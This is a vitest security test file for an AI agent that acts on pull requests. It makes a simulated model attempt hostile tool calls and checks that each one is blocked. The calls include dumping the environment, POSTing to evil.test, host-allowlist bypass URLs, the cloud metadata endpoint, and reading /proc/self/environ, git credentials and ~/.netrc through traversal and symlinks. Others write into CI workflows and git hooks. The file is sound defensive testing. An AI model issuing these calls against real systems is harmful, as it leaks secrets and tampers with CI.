import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { type EventScene, openEventScene } from '../../helpers/event-scene.ts'
import { whatLeft } from '../../helpers/what-left.ts'

const CANARY = 'c4n4ry-Zk3x9pLw7Vb2-env'
const RUNNER = 'c4n4ry-Hq5t8mNd1Rs6-runner'

/** An agent that may call some tools, on the number of a pull request. */
const agent = (...tools: readonly string[]) => `
on: pull_request
inputs: { number: { type: integer } }
enable_summarization_node: false
assistants: [{ id: a, model: gpt-5-mini, system_prompt: P, tools: [${tools.map((name) => `{ name: ${name} }`).join(', ')}] }]
states: [{ id: one, assistant_id: a, task: Look, next: { state_id: end } }]
`

type Call = { readonly name: string; readonly args: unknown }

/** Lets a model call tools, and tells what each call gave. */
async function callTools(
  scene: EventScene,
  calls: readonly Call[],
  prepare?: (root: string) => void,
): Promise<{ readonly results: readonly string[]; readonly root: string; readonly left: string }> {
  const { forge, models } = scene
  forge.commit('acme/app', 'change', { 'docs/a.txt': 'a\n' }, { from: 'main' })
  const { number } = forge.openPull('acme/app', { head: 'change' })
  models.reply({ toolCalls: calls }, 'done')
  const step = await scene.run(forge.event('pull_request', 'acme/app', { number }), {
    env: {
      DEPLOY_TOKEN: CANARY,
      ACTIONS_RUNTIME_TOKEN: RUNNER,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: RUNNER,
      INPUT_TOKEN: RUNNER,
    },
    ...(prepare && { prepare }),
  })
  const results = ((models.requests[1]?.body.messages ?? []) as { role: string; content: string }[])
    .filter(({ role }) => role === 'tool')
    .map(({ content }) => content)
  const left = whatLeft(scene, step)
  return { results, root: scene.git('rev-parse', '--show-toplevel'), left: Object.values(left).join('\n') }
}

describe('attack 8: a tool is asked to hand the keys out', () => {
  test('a program has no variable with one, and no host can be reached that nobody allowed', async () => {
    const scene = await openEventScene({
      look: agent('run_command', 'http_request', 'http_get'),
      '.codemie/config.yaml':
        'policy: { commands: [env], http_allow_hosts: [api.good.test] }\nintegrations: { good: { type: http, url: https://api.good.test, token_env: DEPLOY_TOKEN } }\n',
    })
    const { results, left } = await callTools(scene, [
      { name: 'run_command', args: { command: 'env' } },
      { name: 'http_request', args: { url: 'https://evil.test/', method: 'POST', body: 'x' } },
      { name: 'http_get', args: { url: 'https://api.good.test@evil.test/' } },
      { name: 'http_get', args: { url: 'https://api.good.test.evil.test/' } },
      { name: 'http_get', args: { url: 'http://169.254.169.254/latest/meta-data' } },
      { name: 'http_get', args: { url: 'file:///proc/self/environ' } },
    ])
    const variables = JSON.parse(results[0] ?? '').stdout as string
    const names = variables.split('\n').flatMap((line) => /^(\w+)=/.exec(line)?.[1] ?? [])
    expect(
      names.filter((name) => !/^(PATH|HOME|USER|LANG|LC_ALL|TZ|TMPDIR|TEMP|TMP|PWD|SHLVL|CI|_)$/.test(name)),
    ).toEqual([])
    expect(results.slice(1)).toEqual([
      expect.stringContaining('the host "evil.test" is not allowed'),
      expect.stringContaining('must not carry a name or password'),
      expect.stringContaining('the host "api.good.test.evil.test" is not allowed'),
      expect.stringContaining('is not allowed'),
      expect.stringContaining('only https is spoken'),
    ])
    for (const secret of [CANARY, RUNNER, 'sk-test-0123456789']) expect(left).not.toContain(secret)
  })
})

describe('attack 9: a tool is asked to read what is not of the repository', () => {
  test('the environment of the process, credentials of git and files of the runner', async () => {
    const scene = await openEventScene({ look: agent('read_file', 'search_files', 'list_files', 'git_show') })
    const outside = join(scene.forge.repo('acme/app').dir, '..', 'outside.txt')
    writeFileSync(outside, CANARY)
    const paths = [
      '/proc/self/environ',
      '/proc/1/environ',
      '.git/config',
      '.GIT/config',
      'docs/../.git/config',
      '.git/../.git/config',
      outside,
      '../outside.txt',
      'docs/link/outside.txt',
      'docs/git/config',
      '~/.netrc',
    ]
    const { results, left } = await callTools(
      scene,
      [
        ...paths.map((path) => ({ name: 'read_file', args: { path } })),
        { name: 'search_files', args: { query: CANARY.slice(0, 8) } },
        { name: 'search_files', args: { query: 'extraheader', path: '.git' } },
        { name: 'list_files', args: { pattern: '**/config' } },
        { name: 'git_show', args: { revision: 'HEAD', path: '../outside.txt' } },
      ],
      (root) => {
        writeFileSync(
          join(root, '.git', 'config'),
          `[http]\n\textraheader = AUTHORIZATION: basic ${CANARY}\n`,
          {
            flag: 'a',
          },
        )
        symlinkSync(join(outside, '..'), join(root, 'docs', 'link'))
        symlinkSync('../.git', join(root, 'docs', 'git'))
      },
    )
    expect(results).toHaveLength(paths.length + 4)
    for (const result of results) expect(result).not.toMatch(/c4n4ry|extraheader =|PATH=/)
    for (const result of results.slice(0, paths.length))
      expect(result).toMatch(/error|refused|outside|\.git/i)
    expect(left).not.toContain(CANARY)
  })
})

describe('attack 12: a path leads somewhere else', () => {
  test('what a model writes stays where the policy lets it, and off what steers CI', async () => {
    const scene = await openEventScene({
      look: agent('write_file', 'append_file', 'move_file', 'edit_file'),
      '.codemie/config.yaml': 'policy: { write_paths: ["**"] }\n',
      '.github/workflows/ci.yml': 'on: push\n',
    })
    const write = (path: string) => ({ name: 'write_file', args: { path, content: 'pwned' } })
    const paths = [
      '.github/workflows/x.yml',
      '.GitHub/Workflows/x.yml',
      'docs/../.github/workflows/x.yml',
      '.github/actions/x/action.yml',
      '.git/hooks/post-commit',
      '.git./hooks/post-commit',
      'GIT~1/hooks/post-commit',
      '.git::$INDEX_ALLOCATION/x',
      '.gitmodules',
      '.codemie/config.yaml',
      '.codemie/workflows/look.yaml',
      '../pwned',
      '/tmp/pwned-by-codemie',
      'C:\\pwned',
      'docs/link/pwned',
      'docs/hooks/post-commit',
      'docs/self',
    ]
    const { results, root } = await callTools(
      scene,
      [
        ...paths.map(write),
        { name: 'append_file', args: { path: '.github/workflows/ci.yml', content: 'pwned' } },
        { name: 'move_file', args: { source: 'docs', destination: '.github/workflows/docs' } },
        { name: 'move_file', args: { source: '.github', destination: 'docs/github' } },
        write('docs/fine.txt'),
      ],
      (folder) => {
        symlinkSync('../..', join(folder, 'docs', 'link'))
        symlinkSync('../.git/hooks', join(folder, 'docs', 'hooks'))
        symlinkSync('../.github/workflows/ci.yml', join(folder, 'docs', 'self'))
      },
    )
    expect(readFileSync(join(root, 'docs', 'fine.txt'), 'utf8')).toBe('pwned')
    for (const [index, result] of results.slice(0, -1).entries()) {
      expect(result, paths[index]).toMatch(/error/i)
    }
    expect(scene.git('status', '--porcelain', '--untracked-files=all').split('\n').sort()).toEqual([
      '?? docs/fine.txt',
      '?? docs/hooks',
      '?? docs/link',
      '?? docs/self',
    ])
    expect(existsSync(join(root, '.git', 'hooks', 'post-commit'))).toBe(false)
    expect(existsSync(join(root, '..', 'pwned'))).toBe(false)
  })

  test('a workflow of the base that is a link is not followed out of the repository', async () => {
    const scene = await openEventScene({ look: agent('read_file') })
    const { results } = await callTools(
      scene,
      [{ name: 'read_file', args: { path: 'docs/passwd' } }],
      (root) => symlinkSync('/etc/passwd', join(root, 'docs', 'passwd')),
    )
    expect(results[0]).toMatch(/error/i)
    expect(results[0]).not.toContain('root:')
  })
})
